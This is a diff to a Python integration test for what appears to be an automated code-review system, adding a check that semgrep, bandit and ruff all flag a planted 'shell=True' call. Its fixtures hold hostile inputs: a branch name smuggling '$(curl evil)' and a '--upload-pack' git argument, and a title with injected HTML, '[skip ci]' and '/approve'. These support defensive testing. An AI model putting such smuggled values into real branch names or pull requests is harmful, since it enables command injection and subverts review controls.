@@ -29,8 +29,8 @@ pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]
 README = {"README.md": b"# Tools\n"}
 TITLE = "@octo/team <img src=x> ![x](http://e/i) [skip ci] /approve END-OF-TITLE"
 BRANCH = "$(curl evil)`@octo/branch`--upload-pack=x"
-MEMORY_MB = 400
-"""The server's peak over all cases. Measured: 250; it was 800 when every blob was fetched and kept."""
+MEMORY_MB = 300
+"""The server's peak over all cases, measured: 165."""
 
 
 @dataclass(frozen=True)
@@ -121,6 +121,25 @@ def test_what_was_planted_is_found_where_it_stands(case: Any, outcome: Reviewed)
         if concern["fate"] == "posted"
     }
     assert set(case.found.items()) - found == set()
+
+
+def test_on_a_planted_shell_call_in_a_file_that_was_read_in_full_every_tool_speaks(
+    case: Any, outcome: Reviewed
+) -> None:
+    shells = {path for path, line in case.found.items() if b"shell=True" in _line(case.head[path], line)}
+    told = {
+        (concern["findings"][0]["path"], finding["source"])
+        for concern in outcome.document["concerns"]
+        for finding in concern["findings"]
+        if finding["start_line"] == case.found.get(finding["path"])
+    }
+    wanted = {(path, tool) for path in shells - case.gaps.keys() for tool in ("semgrep", "bandit", "ruff")}
+    assert wanted - told == set()
+
+
+def _line(entry: Any, number: int) -> bytes:
+    data: bytes = getattr(entry, "data", entry)
+    return data.split(b"\n")[number - 1]
 
 
 def test_what_could_not_be_read_is_named_and_the_check_is_no_success(case: Any, outcome: Reviewed) -> None:
